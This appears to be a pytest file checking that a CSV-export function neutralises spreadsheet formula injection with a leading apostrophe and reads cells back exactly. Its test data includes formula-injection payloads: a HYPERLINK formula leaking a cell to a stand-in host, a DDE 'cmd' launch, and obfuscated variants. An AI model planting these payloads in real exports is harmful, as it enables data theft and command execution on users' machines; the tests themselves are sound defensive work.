"""Spreadsheet CSV cells: text that would run as a formula is neutralised, and reading it back is exact."""

import csv
import io
import re

import pytest

from zwk_network.spreadsheet import restored_cell, spreadsheet_cell, spreadsheet_csv

ATTACKS = [
    '=HYPERLINK("http://boese.example/?"&A1,"Klick")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    # after spaces or invisible characters, and in full-width or small forms
    " =1+1",
    "\u00a0+1",
    "\n=1+1",
    "\u200b=1+1",
    "\ufeff@SUM(1)",
    "\u2060\u200d-1",
    "＝1+1",
    "＋cmd|' /C calc'!A0",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "\u200b＝1",
]
ODD_BUT_HARMLESS = [
    "'s-Hertogenbosch",
    "'",
    "''",
    "'=schon zitiert",
    "''=zweimal",
    "'+",
    "a=b",
    "",
    "Zoë",
    "0815",
    "'\u200b=x",
    "'＝x",
    " Hallo",
    "x;=cmd|' /C calc'!A0",
    "x;'=y",
    "a\n''b",
    "-;;\n\n+",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_an_apostrophe(text):
    broken = text[:1] in ("\r", "\n")  # the apostrophe goes after the line break
    expected = text[0] + "'" + text[1:] if broken else "'" + text
    # and one in front of a carriage return that begins the cell (a spreadsheet may drop it)
    assert spreadsheet_cell(text) == ("'" + expected if text.startswith("\r") else expected)


def test_a_cell_beginning_with_a_carriage_return_or_a_tab():
    assert spreadsheet_cell("\rCR") == "'\rCR" and spreadsheet_cell("\tTab") == "'\tTab"
    for text in ("\rCR", "'\rCR", "''\r", "\r", "\tTab"):
        assert restored_cell(spreadsheet_cell(text)) == text


def test_after_a_semicolon_or_a_line_break_too():
    assert spreadsheet_cell("x;=cmd|' /C calc'!A0") == "x;'=cmd|' /C calc'!A0"
    assert spreadsheet_cell('Chor; "=1+1"\n- Punkt') == "Chor;' \"=1+1\"\n'- Punkt"
    assert spreadsheet_cell("a;b\nc") == "a;b\nc"


def test_numbers_and_plain_text_stay_as_they_are():
    assert [spreadsheet_cell(v) for v in (-3, -12.25, 0, 40, None, "Erika Muster", "'s-Hertogenbosch")] == [
        -3,
        -12.25,
        0,
        40,
        "",
        "Erika Muster",
        "'s-Hertogenbosch",
    ]


@pytest.mark.parametrize("text", ATTACKS + ODD_BUT_HARMLESS)
def test_reading_back_is_exact(text):
    written = spreadsheet_cell(text)
    for part in re.split(r"[;\r\n]", written):
        assert not part.lstrip(INVISIBLE).startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦")), (
            written
        )
    assert restored_cell(written) == text


def test_a_whole_document():
    document = spreadsheet_csv(["name", "count"], [["=1+1", -3], ["Chor", 4]])
    assert list(csv.reader(io.StringIO(document))) == [["name", "count"], ["'=1+1", "-3"], ["Chor", "4"]]
    assert document.splitlines() == ['"name","count"', '"\'=1+1",-3', '"Chor",4']


INVISIBLE = '"' + " \t\r\n\u00a0\u200b\u200d\u2060\ufeff"


@pytest.mark.parametrize("text", [*ATTACKS, "x;=cmd|' /C calc'!A0", "a;+1;@SUM(1)", 'x";=1'])
def test_a_spreadsheet_splitting_at_semicolons_sees_no_formula(text):
    """German-locale spreadsheets split a double-clicked .csv at semicolons (and honour quotes)."""
    document = spreadsheet_csv(["name", "note"], [[text, "ok"]])
    for line in document.splitlines():  # after a split in a quoted cell, a line break ends the row
        for cell in next(csv.reader([line], delimiter=";")):
            assert not cell.lstrip(INVISIBLE).startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), (
                document
            )
    assert list(csv.reader(io.StringIO(document)))[1] == [spreadsheet_cell(text), "ok"]
